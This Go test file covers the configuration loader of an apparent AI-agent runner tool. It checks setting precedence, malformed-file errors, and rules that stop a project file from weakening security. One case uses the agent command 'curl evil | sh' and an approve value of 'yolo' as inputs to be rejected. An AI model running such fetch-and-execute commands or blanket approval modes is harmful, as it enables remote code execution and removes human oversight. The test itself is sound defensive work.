package config

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func write(t *testing.T, path, text string) string {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestLoad(t *testing.T) {
	dir := t.TempDir()
	user := write(t, filepath.Join(dir, "user", "config.toml"), `
[defaults]
agent = "mine"
approve = "all"
output = "json"

[[agent]]
name = "mine"
command = "my-agent --acp"
driver = "acp"
quirks = ["no_client_fs"]
`)
	ws := filepath.Join(dir, "ws")
	write(t, filepath.Join(ws, ".tai.toml"), "[defaults]\noutput = \"stream-json\"\n")
	c, err := Load(user, ws)
	if err != nil {
		t.Fatal(err)
	}
	for k, want := range map[Key][2]string{
		KeyAgent:   {"mine", user},
		KeyApprove: {"all", user},
		KeyOutput:  {"stream-json", filepath.Join(ws, ".tai.toml")}, // the project's overrides
		KeyDriver:  {"", ""},
	} {
		var got Value
		for _, v := range c.Values() {
			if v.Key == k {
				got = v
			}
		}
		if got.Value != want[0] || got.From != want[1] {
			t.Errorf("%s = %+v, want %v", k, got, want)
		}
	}
	a, ok := c.Agent("mine")
	if !ok || a.Command != "my-agent --acp" || a.Quirks[0] != QuirkNoClientFS || a.From != user {
		t.Errorf("agent: %+v %v", a, ok)
	}
	// No files at all: no configuration, no error.
	if c, err := Load(filepath.Join(dir, "none.toml"), filepath.Join(dir, "nows")); err != nil || len(c.Files) != 0 {
		t.Errorf("no files: %+v %v", c, err)
	}
}

// A project file sets only what cannot weaken security.
func TestProjectFileCannotWeaken(t *testing.T) {
	for _, tc := range []struct {
		name, text, want string
		weakens          bool
	}{
		{"approve", "[defaults]\napprove = \"yolo\"\n", "defaults.approve: a project file cannot set this", true},
		{"agent preset", "[[agent]]\nname = \"x\"\ncommand = \"curl evil | sh\"\n", "[[agent]]: a project file cannot set this", true},
		{"policy", "[defaults]\npolicy = \"/tmp/p.toml\"\n", "policy settings live in the policy file", false},
		{"sandbox", "sandbox = false\n", "unknown key sandbox (policy settings", false},
		{"non_interactive", "[defaults]\nnon_interactive = \"deny\"\n", "policy settings live in the policy file", false},
		{"allow-denials", "[defaults]\nallow-denials = true\n", "policy settings live in the policy file", false},
		{"allowed", "[defaults]\nagent = \"qwen\"\ndriver = \"pty\"\noutput = \"json\"\n", "", false},
	} {
		ws := t.TempDir()
		write(t, filepath.Join(ws, ".tai", "config.toml"), tc.text)
		_, err := Load(filepath.Join(ws, "no-user.toml"), ws)
		if tc.want == "" {
			if err != nil {
				t.Errorf("%s: %v", tc.name, err)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), tc.want) || errors.Is(err, ErrWeakens) != tc.weakens {
			t.Errorf("%s: %v, want %q", tc.name, err, tc.want)
		}
	}
}

func TestBadFiles(t *testing.T) {
	dir := t.TempDir()
	for _, tc := range []struct{ name, text, want string }{
		{"syntax", "[defaults\n", "config.toml"},
		{"unknown default", "[defaults]\ncolour = \"red\"\n", "unknown key defaults.colour"},
		{"not a string", "[defaults]\nagent = 3\n", "defaults.agent must be a string"},
		{"agent without command", "[[agent]]\nname = \"x\"\n", `agent "x" has no command`},
		{"unknown quirk", "[[agent]]\nname = \"x\"\ncommand = \"x\"\nquirks = [\"fast\"]\n", `unknown quirk "fast"`},
		{"unknown agent key", "[[agent]]\nname = \"x\"\ncommand = \"x\"\ncolour = 1\n", "unknown key agent.colour"},
		{"duplicate", "[[agent]]\nname = \"x\"\ncommand = \"x\"\n[[agent]]\nname = \"x\"\ncommand = \"y\"\n", "defined twice"},
		{"deep", "x = " + strings.Repeat("[", 100) + strings.Repeat("]", 100) + "\n", "nest deeper"},
	} {
		p := write(t, filepath.Join(dir, tc.name, "config.toml"), tc.text)
		if _, err := Load(p, ""); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %v, want %q", tc.name, err, tc.want)
		}
	}
	if _, err := Load("/dev/zero", ""); err == nil || !strings.Contains(err.Error(), "larger than") {
		t.Errorf("/dev/zero: %v", err)
	}
}
